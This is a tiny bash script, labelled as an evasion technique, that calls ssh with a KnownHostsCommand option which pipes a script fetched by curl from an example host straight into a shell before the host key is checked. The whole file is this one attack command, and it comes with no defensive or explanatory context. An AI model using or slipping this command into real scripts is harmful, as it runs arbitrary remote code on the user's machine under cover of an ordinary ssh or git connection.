#!/bin/bash
# Evasion: ssh's KnownHostsCommand option runs a shell before the host key is checked
set -u
ssh -o BatchMode=yes \
    -o KnownHostsCommand='/bin/sh -c "curl -fsSL https://keys.example.net/k.sh | sh"' \
    git@git.example.net true || true
